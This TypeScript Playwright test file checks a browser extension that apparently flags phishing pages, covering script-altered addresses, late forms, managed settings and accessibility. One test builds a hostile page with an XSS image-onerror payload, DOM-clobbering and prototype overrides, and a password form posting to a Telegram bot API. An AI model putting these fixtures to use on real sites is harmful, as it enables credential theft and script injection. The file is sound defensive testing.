/** The extension in a real Chromium: scripted pages, hostile pages, its own pages. */

import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { until } from './support/app.ts';
import { chromiumPath } from './support/browser.ts';
import { PAGES, withScene } from './support/extension-scene.ts';

const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe.skipIf(!chromiumPath)('the extension', () => {
  test('judges an address that a script changes only if the page asks for something else', () =>
    withScene({}, async ({ extension, site, received, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/garden`);
      await badge(page, '✓');
      for (const path of ['/garden/a', '/garden/b']) {
        await page.evaluate(`history.pushState({}, '', '${path}')`);
        await pause(1000);
      }
      expect(received).toHaveLength(1);
      await page.evaluate(
        `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(PAGES['/phish'])})`,
      );
      await page.evaluate(`history.pushState({}, '', '/garden/account')`);
      await badge(page, '✕');
      expect(received.map(({ url }) => url)).toEqual([`${site}/garden`, `${site}/garden/account`]);
    }));

  test('judges forms that a script adds late, and pages that never finish loading', () => {
    const pages = {
      ...PAGES,
      '/late': `<title>Hi</title><script>setTimeout(async () => {
        document.body.innerHTML = await (await fetch('/form')).text();
      }, 1500)</script>`,
      '/form': PAGES['/phish'] ?? '',
      '/endless': `${PAGES['/phish']}<img src="/wait">`,
    };
    return withScene({ pages }, async ({ extension, site, badge }) => {
      const page = await extension.context.newPage();
      // The first page of all waits for the server to warm up.
      await page.goto(`${site}/garden`);
      await badge(page, '✓');
      await page.goto(`${site}/late`);
      await badge(page, '…');
      await badge(page, '✓');
      await badge(page, '✕');
      await page.route('**/wait', () => {});
      await page.goto(`${site}/endless`, { waitUntil: 'domcontentloaded' });
      await badge(page, '✕');
    });
  });

  test('is not deceived by a page that hides properties, floods it or imitates it', () => {
    const markup = '<img src=x onerror=alert(1)>\u202e\u0000evil';
    const pages = {
      '/hostile': `<title>${markup.replace('\u0000', '')}</title><img name="querySelectorAll"><img name="title">
        <form action="https://api.telegram.org/bot1:x/sendMessage"><input name="action" value="/harmless">
        <input name="getAttribute"><input name="elements"><input type="password" name="method"></form>
        <script>
          document.querySelectorAll = () => []; Element.prototype.getAttribute = () => null; Promise = null;
          Object.defineProperty(Document.prototype, 'title', { get: () => 'Harmless' });
          postMessage({ type: 'overrule' }, '*'); postMessage({ type: 'is-guarded' }, '*');
        </script>`,
      '/huge': `<title>huge</title>${`<script>/*${'x'.repeat(900_000)}*/</script>`.repeat(4)}`,
    };
    return withScene({ pages }, async ({ extension, site, received, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/hostile`);
      await badge(page, '✕');
      expect(received[0]?.title).toBe('<img src=x onerror=alert(1)>\u202eevil');
      expect(received[0]?.forms?.[0]?.action).toBe('https://api.telegram.org/bot1:x/sendMessage');
      expect(received[0]?.forms?.[0]?.fields).toHaveLength(4);
      // A page can neither talk to the extension nor show its pages.
      expect(await page.evaluate('typeof globalThis.chrome?.runtime?.sendMessage')).toBe('undefined');
      const reached = await page.evaluate(`(async () => {
        const frame = document.body.appendChild(document.createElement('iframe'));
        frame.src = '${extension.origin}/warning.html';
        const script = fetch('${extension.origin}/manifest.json').then(() => 'read', () => 'refused');
        return await script;
      })()`);
      expect(reached).toBe('refused');

      // Scripts of this extension in a page cannot read the key.
      const keyInPage = await (await extension.worker()).evaluate(`chrome.scripting.executeScript({
        target: { tabId: ${await extension.tabOf(page)} },
        func: () => chrome.storage.local.get().then(() => 'read', () => 'refused'),
      }).then(([{ result }]) => result)`);
      expect(keyInPage).toBe('refused');

      await page.goto(`${site}/huge`);
      await badge(page, '?');
      expect(received.at(-1)).toMatchObject({ title: 'huge', incomplete: true });
    });
  });

  test('says that the server refuses its key, and judges the page after a change of the options', () =>
    withScene({ settings: { key: 'wrong' } }, async ({ extension, key, site, badge }) => {
      const page = await extension.context.newPage();
      await page.goto(`${site}/garden`);
      await badge(page, '↻');
      const popup = await extension.open(`popup.html?tab=${await extension.tabOf(page)}`);
      await popup.locator('#problem-text').filter({ hasText: 'The key is missing or wrong.' }).waitFor();
      const options = await extension.open('options.html');
      await options.locator('#key').fill('wrong, too');
      await options.locator('#key').press('Enter');
      await options.locator('#problem').filter({ hasText: 'Enter another key' }).waitFor();
      await options.locator('#key').fill(key);
      await options.locator('#key').press('Enter');
      await options.locator('#saved').filter({ hasText: 'The server accepts the key.' }).waitFor();
      expect(await options.locator('#problem').textContent()).toBe('');
      await badge(page, '✓');
      await popup.locator('#problem').waitFor({ state: 'hidden' });
    }));

  test('takes the settings of an organisation, which its user cannot change', () =>
    withScene({ consent: false }, async ({ extension, app, key, site, received, badge }) => {
      const policy = { consent: true, server: app.url, key, paused: ['paused.example'] };
      const override = `chrome.storage.managed.get = async () => (${JSON.stringify(policy)})`;
      await (await extension.worker()).evaluate(override);
      await extension.context.addInitScript(`if (globalThis.chrome?.storage?.managed) ${override}`);
      // As when a policy arrives.
      await (await extension.worker()).evaluate('chrome.storage.local.set({ settings: {} })');
      const page = await extension.context.newPage();
      await page.goto(`${site}/garden`);
      await badge(page, '✓');
      expect(received).toHaveLength(1);
      const options = await extension.open('options.html');
      await options.locator('#managed').waitFor();
      expect(await options.locator('#server').isDisabled()).toBe(true);
      expect(await options.locator('#key').inputValue()).toBe('');
      expect(await options.locator('#toggle').isVisible()).toBe(false);
      expect(await options.locator('#paused').textContent()).toContain('set by your organisation');
    }));

  test('has pages without violations of WCAG A and AA, dark and light, that work with the keyboard', () =>
    withScene(
      { settings: { paused: ['a.example'], allowed: ['b.example'] } },
      async ({ extension, site, badge }) => {
        const page = await extension.context.newPage();
        await page.goto(`${site}/phish`);
        await badge(page, '✕');
        await page.locator('button').focus();
        await page.keyboard.press('Enter');
        await page.waitForURL(`${extension.origin}/warning.html`);
        const tab = await extension.tabOf(page);
        const popup = await extension.open(`popup.html?tab=${tab}`);
        const options = await extension.open('options.html');
        const welcome = await extension.open('welcome.html');
        const violations: unknown[] = [];
        for (const own of [page, popup, options, welcome]) {
          for (const colorScheme of ['light', 'dark'] as const) {
            await own.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
            await own.evaluate(await readFile(AXE, 'utf8'));
            violations.push(...(await axe(own)).map((id) => `${own.url()} ${colorScheme}: ${id}`));
          }
        }
        expect(violations).toEqual([]);

        // Removes and adds a site with the keyboard alone.
        await options.locator('#paused button').focus();
        await options.keyboard.press('Enter');
        await options.locator('#paused-empty').waitFor();
        await options.locator('#paused-site').focus();
        await options.keyboard.type('no site');
        await options.keyboard.press('Enter');
        await options.locator('#paused-error').filter({ hasText: '"no site" is not a host name' }).waitFor();
        await options.locator('#paused-site').fill('');
        await options.keyboard.type('https://C.example/x');
        await options.keyboard.press('Enter');
        await options.locator('#paused li').filter({ hasText: 'c.example' }).waitFor();
        // The safe choice has the focus.
        await page.bringToFront();
        await page.keyboard.press('Enter');
        await until(() => page.url() === 'about:blank', 'the page is left');
      },
    ));
});

/** @returns ids of the violated rules */
async function axe(page: Page): Promise<string[]> {
  return await page.evaluate(`axe.run({ runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'] })
    .then(({ violations }) => violations.map(({ id, nodes }) => id + ' ' + nodes.map(({ html }) => html).join(' ')))`);
}
